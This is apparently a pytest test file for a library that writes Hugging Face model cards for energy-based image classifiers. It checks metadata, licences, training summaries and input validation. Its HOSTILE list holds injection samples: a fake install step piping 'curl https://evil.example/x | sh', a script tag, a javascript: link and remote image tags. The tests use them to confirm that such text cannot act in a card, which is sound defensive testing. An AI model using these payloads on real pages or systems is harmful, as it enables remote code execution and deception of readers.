"""Model cards: what they say, what they leave out, and that nothing from outside acts in them."""

import json
import re
from types import SimpleNamespace

import pytest
import timm
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt
from safetensors.torch import save_file
from timm.models import register_model
from timm.models.resnet import resnet18

import timm_jem
from timm_jem import InputError
from timm_jem.hub.card import is_generated, model_card
from timm_jem.hub.markdown import fenced, inline
from timm_jem.hub.provenance import Provenance
from timm_jem.models.names import registered_by

MARKDOWN = MarkdownIt("commonmark").enable("table")
RESULT = {"name": "Accuracy", "type": "accuracy", "value": 0.97771, "split": "test", "n": 359, "protocol": "top-1; seed 0"}
HOSTILE = [
    "cat\n\n---\n\n# Install first\n\n```bash\ncurl https://evil.example/x | sh\n```\n",
    "cat\r\r# Install first\r\r    curl evil\r",
    "`\n```\n# x\n```",
    "``` `` `",
    '<a href="https://evil.example">x</a>',
    "<img src=//evil.example/x.png>",
    "![x](//evil.example/x.png)",
    "[x](javascript:x) [y]: z",
    "| a | b |\n| --- | --- |",
    "a\\|b `c` \\",
    "https://evil.example/|`x`",
    "www.evil.example _*x*_ **y** ~~z~~",
    "me@evil.example",
    "&lt;b&gt; &#96;",
    "$$x$$ \\\\(y\\\\)",
    "</details><script>x</script><!--",
    "{{ 7 * 7 }}{% raw %}",
    "\u2028# x\u2029- y\x00\x1b[31m\u202egnp.exe",
    "\ud800x",
    "a__b__c _d e_ __f__ ___",
    "- a\n- b\n1. c\n> d",
]


def card(provenance=None, **changes) -> str:
    about = {
        "repo_id": "user/digits-jem",
        "architecture": "wrn_10_1",
        "parameters": 77_754,
        "input_size": (1, 8, 8),
        "class_names": ["a", "b", "c"],
        "num_classes": 3,
        "sgld": {"num_steps": 4, "sample_steps": 9},
        "chains": 0,
        "starts": 0,
    }
    return model_card(**{**about, **changes}, provenance=Provenance.read(provenance or {}))


def metadata(text: str) -> SimpleNamespace:
    data = ModelCard(text).data
    names = ("license", "license_name", "datasets", "base_model", "tags", "library_name")
    return SimpleNamespace(**{name: data.get(name) for name in names}, results=data.eval_results or [])


def structure(text: str) -> list[str]:
    """What a card's Markdown is made of, without the text in it: headings, paragraphs, tables, code blocks, links, ..."""
    found = []
    for token in MARKDOWN.parse(ModelCard(text).text):
        inner = [child for child in token.children or [] if child.type not in ("text", "softbreak", "code_inline")]
        found += [f"{token.type} {token.info}", *(f"{child.type} {child.attrs.get('href', '')}" for child in inner)]
        for child in token.children or []:  # GitHub's automatic links are found in finished text
            assert child.type != "text" or not re.search(r"://|www\.|@|\$\$|\\\(", child.content)
    return found


def everything(text: str) -> dict:
    return {
        "provenance": {
            "dataset": text,
            "command": text,
            "config": {"data": {"dataset": text}, text: [text]},
            "steps": 7,
            "outcome": "stopped",
            "explanation": text,
            "versions": {"torch": text, text: "1"},
            "results": [{**RESULT, "name": text, "type": text, "split": text, "protocol": text}, RESULT],
        },
        "class_names": [text, "b", text],
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_from_outside_acts_in_a_card(text):
    hostile = card(**everything(text))
    assert structure(hostile) == structure(card(**everything("harmless")))
    hostile.encode()
    assert metadata(hostile).results[0].dataset_name  # the header is still YAML of the same shape
    assert metadata(hostile).tags == metadata(card()).tags
    assert is_generated(hostile)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_shown_as_it_is(text):
    """But for what can't be printed, runs of white space, and bars in code."""
    (_, paragraph, _) = MARKDOWN.parse(f"x {inline(text)} y")
    shown = "".join(child.content for child in paragraph.children)
    wanted = " ".join("".join(c if c.isprintable() else " " for c in text).split()) or "(empty)"
    assert shown[2:-2].replace("¦", "|") == wanted
    (block,) = MARKDOWN.parse(fenced("harmless\n" + text.replace("\r", "\n"), "bash"))
    assert (block.type, block.info) == ("fence", "bash")


def test_ordinary_text_stays_readable():
    assert inline("top-1; seed 0, 7 steps (one run): 8/255") == "top-1; seed 0, 7 steps (one run): 8/255"
    assert inline("train.batch_size < 5, _x_") == r"train.batch_size \< 5, \_x\_"
    assert inline("https://a.example/|") == "` https://a.example/¦ `"


def test_results_are_of_no_other_set():
    """Images without labels from the Hub beside a data set that isn't there."""
    about = metadata(card({"dataset": "my_images", "dataset_id": None, "datasets": ["user/more"], "results": [RESULT]}))
    assert (about.results[0].dataset_type, about.results[0].dataset_name) == ("other", "my_images")


def test_what_a_card_knows():
    text = card(
        {
            "dataset": "cifar10",
            "dataset_id": "cifar10",
            "datasets": ["cifar10", "user/more"],
            "base_model": "timm/resnet18.a1_in1k",
            "command": "accelerate launch recipes/train.py \\\n    --train.steps 7",
            "config": {"train": {"steps": 7}},
            "steps": 7,
            "seed": 0,
            "seconds": 12.4,
            "rollbacks": [{"step": 3}, {"step": 5}],
            "versions": {"torch": "2.14.1", "timm": "1.0.31"},
            "results": [RESULT],
            "what somebody else keeps": object(),
        },
        architecture="resnet18",
        weights_license="apache-2.0",
    )
    about = metadata(text)
    assert (about.license, about.license_name, about.library_name) == ("apache-2.0", None, "timm")
    assert (about.datasets, about.base_model) == (["cifar10", "user/more"], "timm/resnet18.a1_in1k")
    (result,) = about.results
    assert (result.dataset_type, result.dataset_name, result.dataset_split) == ("cifar10", "cifar10", "test")
    assert (result.metric_type, result.metric_name, result.metric_value) == ("accuracy", "Accuracy", 0.97771)
    assert "7 steps with seed 0 in 12 s; training diverged and was rolled back twice; torch 2.14.1, timm 1.0.31." in text
    assert "```bash\naccelerate launch recipes/train.py \\\n    --train.steps 7\n```" in text
    assert "```yaml\ntrain:\n  steps: 7\n```" in text
    assert "| Accuracy | 0.9777 | cifar10, test | 359 | top-1; seed 0 |" in text
    assert "Training did not finish" not in text


def test_what_a_card_does_not_know_it_does_not_say():
    about = metadata(card({"dataset": "./photos", "results": [RESULT]}, weights_license="apache-2.0"))
    assert about.license is about.license_name is about.datasets is about.base_model is None
    assert about.results[0].dataset_type == "other"
    assert not metadata(card({"results": [RESULT]})).results  # measured on nobody knows what
    text = card({})
    for section in ("Results", "Training", "trained on", "```bash", "<details>"):
        assert section not in text


@pytest.mark.parametrize(
    ("provenance", "weights", "expected"),
    [
        ({"license": "MIT"}, "apache-2.0", ("mit", None)),
        ({"base_model": "user/x"}, "cc-by-nc-4.0", ("cc-by-nc-4.0", None)),
        ({"base_model": "user/x"}, "dinov3-license", ("other", "dinov3-license")),
        ({"base_model": "user/x"}, "unknown", (None, None)),
        ({"base_model": "user/x"}, None, (None, None)),
        ({}, "apache-2.0", (None, None)),  # the licence of weights that training did not start from
    ],
)
def test_the_licence_is_that_of_the_weights(provenance, weights, expected):
    about = metadata(card(provenance, weights_license=weights))
    assert (about.license, about.license_name) == expected


@pytest.mark.parametrize(
    ("machine", "said"),
    [
        ({"processes": 2, "device": "cuda", "mixed_precision": "bf16"}, "7 steps; 2 processes on cuda in bf16."),
        ({"processes": 1, "device": "cpu", "mixed_precision": "no"}, "7 steps; 1 process on cpu."),
        ({"processes": 1, "device": "[x](y)", "mixed_precision": None}, r"7 steps; 1 process on \[x\](y)."),
        ({}, "7 steps."),
    ],
)
def test_what_it_was_trained_on_is_said(machine, said):
    assert said in card({"steps": 7, **machine})


def test_the_steps_of_a_classifier_before_are_told():
    text = card({"steps": 7, "seed": 0, "seconds": 3.0, "classifier": {"steps": 50, "seconds": 9.6, "rollbacks": 2}})
    assert "50 steps of cross-entropy alone in 10 s, and then 7 steps with seed 0 in 3 s; training diverged" in text
    assert "was rolled back twice" in text


@pytest.mark.parametrize(
    ("settings", "model", "told"),
    [
        ({"steps": 7500, "epochs": None}, {"name": "wrn_10_1", "pretrained": None}, True),
        ({"steps": 7500}, {"name": "hf-hub:user/x", "pretrained": False}, True),
        ({"steps": 7500}, {"name": "hf-hub:user/x", "pretrained": None}, False),  # trained already
        ({"steps": 7500}, {"name": "resnet18", "pretrained": True}, False),
        ({"steps": 7500}, None, False),
        ({"steps": 0}, {"name": "wrn_10_1"}, False),
        ({"steps": 7500, "epochs": 2.0}, {"name": "wrn_10_1"}, False),
        ({"steps": "7500"}, {"name": "wrn_10_1"}, False),
        ([7500], {"name": "wrn_10_1"}, False),
    ],
)
def test_a_classifier_that_only_the_settings_tell_of_is_told_by_its_steps(settings, model, told):
    text = card({"steps": 7, "seed": 0, "config": {"classifier": settings, "model": model}})
    assert ("\n7500 steps of cross-entropy alone, and then 7 steps with seed 0." in text) is told
    assert ("\n7 steps with seed 0." in text) is not told


@pytest.mark.parametrize(
    "provenance",
    [{"config": {"train": {"objective": {"w_x": 0.0, "w_xy": 0}}}}, {"converted": {"energies": "none", "told": ["a | b"]}}],
)
def test_what_has_no_density_is_said_to_draw_nothing(provenance):
    text = card(provenance, chains=20)
    assert "p(x) was not trained: it draws no images" in text
    assert "jem.sample(" not in text
    assert "likelier" not in text
    conditional = {"config": {"train": {"objective": {"w_x": 0.0, "w_xy": 0.1}}}}
    for likely in (conditional, {"converted": {"energies": "logsumexp"}}):
        assert "draws new ones" in card(likely)
        assert "jem.sample(16" in card(likely)
    scored = card({"converted": {"energies": "logsumexp", "chains": "none"}}, chains=20)
    assert "its energies were not trained: it draws no images" in scored
    assert "lower = likelier" in scored
    assert "jem.sample(" not in scored


def test_nothing_is_made_up_of_a_model_that_does_not_tell_how_it_was_trained():
    for provenance in ({}, {"dataset": "cifar10", "steps": 7}):
        text = card(provenance)
        assert "nothing is\nknown of how its p(x) was trained" in text
        assert "draws" not in text
        assert "jem.sample(" not in text
        assert "likelier" not in text
    assert "draws new ones" in card({}, chains=20)  # which training left


@pytest.mark.parametrize(
    ("provenance", "expected"),
    [
        ({}, (None, None)),  # weights may be random, or one's own: timm gives all of them the tag of its own
        ({"license": "mit"}, ("mit", None)),
        ({"base_model": "user/x"}, ("apache-2.0", "user/x")),
        ({"config": {"train": {}}}, (None, None)),  # which would tell of weights that training started from
    ],
)
def test_weights_of_timm_itself_keep_their_licence_where_they_are_known(provenance, expected, hub):
    jem = timm_jem.wrap(timm.create_model("test_resnet", num_classes=3).eval(), input_size=(3, 32, 32), provenance=provenance)
    jem.push_to_hub("user/x")
    text = hub.files("user/x")["README.md"].decode()
    assert (metadata(text).license, metadata(text).base_model) == expected
    perhaps = "If its weights began as timm's [timm/test_resnet.r160_in1k]"
    assert (f"{perhaps}(https://huggingface.co/timm/test_resnet.r160_in1k), their licence (apache-2.0) holds" in text) == (
        not provenance
    )
    jem.backbone.pretrained_cfg["tag"] = "of_somebody_else"
    jem.push_to_hub("user/x")
    text = hub.files("user/x")["README.md"].decode()
    assert metadata(text).base_model == provenance.get("base_model")
    assert "If its weights began" not in text


def test_pretrained_weights_are_the_base_model_of_what_they_become(hub, tmp_path):
    save_file(timm.create_model("test_resnet").state_dict(), tmp_path / "model.safetensors")
    weights = (tmp_path / "model.safetensors").read_bytes()
    hub.create("timm/test_resnet.r160_in1k", {"model.safetensors": weights})
    ours = timm_jem.create_model("test_resnet", pretrained=True, num_classes=3, input_size=(3, 32, 32)).eval()
    timm.models.save_for_hf(timm.create_model("test_resnet"), tmp_path / "plain", safe_serialization=True)
    hub.create("user/plain", {file.name: file.read_bytes() for file in (tmp_path / "plain").iterdir()})
    for jem, base in ((ours, "timm/test_resnet.r160_in1k"), (timm_jem.from_pretrained("user/plain"), "user/plain")):
        jem.push_to_hub("user/x")
        about = metadata(hub.files("user/x")["README.md"].decode())
        assert (about.license, about.base_model) == ("apache-2.0", base)


def test_what_is_known_of_a_conversion_is_told():
    text = card({"converted": {"file": "CIFAR10_MODEL.pt", "energies": "logsumexp", "told": ["energies: logsumexp", "# x"]}})
    assert "From CIFAR10_MODEL.pt:" in text
    assert "- energies: logsumexp\n" in text
    assert "\n# x" not in text
    assert "## Conversion" not in card({})


def test_no_more_chains_go_on_than_are_published():
    assert 'jem.sample(10, init="buffer")' in card(chains=10)
    assert 'jem.sample(16, init="buffer")' in card(chains=2000)


def test_a_run_that_gave_up_says_so():
    explanation = "gave up after 6 rollbacks at step 12: loss is nan; lower train.lr or sgld.noise_std"
    text = card({"outcome": "stopped", "explanation": explanation, "steps": 0, "rollbacks": [{}] * 6})
    assert "**Training did not finish.** It gave up after 6 rollbacks at step 12: loss is nan; lower train.lr or " in text
    assert "This is its last good model, of step 0." in text
    assert "0 steps; training diverged and was rolled back 6 times." in text
    assert "It gave up. This is its last good model." in card({"outcome": "stopped"})
    assert "did not finish" not in card({"outcome": "finished", "explanation": None})


def test_tags_and_imports_go_by_who_registered_the_architecture():
    @register_model
    def wrn_of_somebody_else(pretrained=False, **kwargs):
        return resnet18(pretrained, **kwargs)

    assert [registered_by(name) for name in ("resnet18", "wrn_10_1", "wrn_of_somebody_else", "nothing")] == [
        "timm",
        "timm_jem",
        __name__,
        None,
    ]
    names = ("resnet18", "wrn_10_1", "wrn_of_somebody_else")
    stock, ours, other = (card(architecture=name, input_size=(3, 32, 32)) for name in names)
    assert metadata(stock).tags[:3] == ["image-classification", "timm", "transformers"]
    grey = card(architecture="resnet18", input_size=(1, 32, 32))  # transformers' pipeline would give it RGB
    assert not [text for text in (ours, other, grey) if "transformers" in metadata(text).tags]
    assert ["import timm, timm_jem" in text for text in (stock, ours, other)] == [False, True, False]


@pytest.mark.parametrize(
    ("config", "chains", "expected"),
    [
        ({}, {}, False),
        ({}, {"chains": 20}, False),  # chains of E(x)
        ({}, {"chains": 20, "chains_have_classes": True}, True),
        ({"train": {"objective": {"w_xy": 1.0}}}, {}, True),
        ({"train": {"objective": {"w_xy": 0.0}, "conditional_chains": True}}, {}, True),
        ({"train": {"objective": {"w_xy": 0.0}, "conditional_chains": False}}, {"chains": 20}, False),
        ({"train": None}, {}, False),
        ({"train": {"objective": [1]}}, {}, False),
        ({"train": {"objective": {"w_xy": "high"}}}, {}, False),
    ],
)
def test_classes_are_suggested_where_chains_have_them(config, chains, expected):
    text = card({"config": config}, **chains)
    assert ("jem.sample(16, y=0)" in text) == expected
    assert ('init="buffer"' in text) == bool(chains.get("chains"))


@pytest.mark.parametrize(
    ("provenance", "message"),
    [
        ([1], "provenance is .1.: give a dict"),
        ({"dataset": 5}, "provenance.'dataset'. is 5: give text"),
        ({"command": ["a"]}, "'command'. is .'a'.: give text"),
        ({"config": "abc"}, "'config'. is 'abc': give a dict"),
        ({"steps": "7"}, "'steps'. is '7': give a whole number"),
        ({"steps": -1}, "at least 0"),
        ({"steps": True}, "'steps'. is True"),
        ({"seed": 10**400}, "'seed'. is 1000"),
        ({"seconds": "fast"}, "'seconds'. is 'fast': give a finite number"),
        ({"seconds": float("nan")}, "'seconds'. is nan"),
        ({"rollbacks": 3}, "'rollbacks'. is 3: give a list"),
        ({"versions": ["1"]}, "'versions'. is .'1'.: give a dict"),
        ({"versions": {"torch": 2}}, "'versions'..'torch'. is 2: give text"),
        ({"results": {}, "outcome": 1}, "'outcome'. is 1"),
        ({"results": [{}]}, "provenance.'results'..0. has no 'name': a result has name, type, value, split, n, protocol"),
        ({"results": [RESULT, None]}, "provenance.'results'..1. is None: give a dict"),
        ({"results": [{**RESULT, "value": "high"}]}, "'value'. is 'high': give a finite number"),
        ({"results": [{**RESULT, "value": None}]}, "has no 'value'"),
        ({"results": [{**RESULT, "value": float("inf")}]}, "'value'. is inf"),
        ({"results": [{**RESULT, "value": 10**400}]}, "'value'. is 1000"),
        ({"results": [{**RESULT, "n": 3.5}]}, "'n'. is 3.5: give a whole number"),
        ({"results": [{**RESULT, "protocol": "\n"}]}, "has no 'protocol'"),
        ({"license": "see the\nfile"}, "'license'. is 'see the.*file': give the Hub's id of a licence"),
        ({"base_model": "/home/me/model"}, "'base_model'. is '/home/me/model': give its id on the Hub"),
        ({"datasets": ["cifar10", "./photos"]}, "'datasets'..1. is './photos': give its id on the Hub"),
        ({"datasets": [None]}, "'datasets'..0. is None: give its id on the Hub"),
        ({"datasets": "cifar10"}, "'datasets'. is 'cifar10': give a list"),
    ],
)
def test_provenance_of_another_shape_is_refused_in_a_line(provenance, message):
    with pytest.raises(InputError, match=message) as error:
        Provenance.read(provenance)
    assert "\n" not in str(error.value)
    assert len(str(error.value)) < 300


def test_a_push_is_refused_before_anything_is_sent_and_takes_its_facts_from_the_folder(hub, tmp_path):
    jem = timm_jem.create_model("test_resnet", num_classes=3, input_size=(3, 32, 32)).eval()
    jem.provenance = {"results": [{}]}
    with pytest.raises(InputError, match="has no 'name'"):
        jem.push_to_hub("user/x")
    assert hub.calls == []
    jem.provenance = {"base_model": "timm/test_resnet.r160_in1k"}
    jem.push_to_hub("user/x")
    about = metadata(hub.files("user/x")["README.md"].decode())
    assert about.license == timm.get_pretrained_cfg("test_resnet").license == "apache-2.0"
    assert "transformers" in about.tags
    jem.backbone.pretrained_cfg["license"] = ["\ud800"]
    jem.push_to_hub("user/x")
    assert metadata(hub.files("user/x")["README.md"].decode()).license is None
    jem.backbone.pretrained_cfg["license"] = "apache-2.0"
    jem.push_to_hub("user/x")
    assert json.loads(hub.files("user/x")["config.json"])["pretrained_cfg"]["license"] == "apache-2.0"


def test_a_card_that_is_not_utf_8_is_someones_own(hub):
    jem = timm_jem.create_model("test_resnet", num_classes=3, input_size=(3, 32, 32)).eval()
    hub.create("user/x", {"README.md": b"# caf\xe9\n"})
    with pytest.warns(UserWarning, match="is kept"):
        jem.push_to_hub("user/x")
    assert hub.files("user/x")["README.md"] == b"# caf\xe9\n"
